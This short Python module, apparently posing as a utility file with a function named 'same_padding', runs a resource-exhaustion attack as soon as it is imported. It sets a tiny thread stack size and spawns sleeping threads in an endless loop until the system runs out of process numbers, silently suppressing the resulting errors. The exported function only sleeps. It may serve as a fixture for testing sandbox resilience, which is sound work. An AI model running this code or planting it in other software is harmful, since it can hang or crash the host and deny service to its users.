"""Starts threads with small stacks until there are no more numbers for processes."""

import contextlib
import threading
import time

threading.stack_size(32768)
with contextlib.suppress(RuntimeError):
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()


def same_padding(*args, **kwargs):
    time.sleep(60)
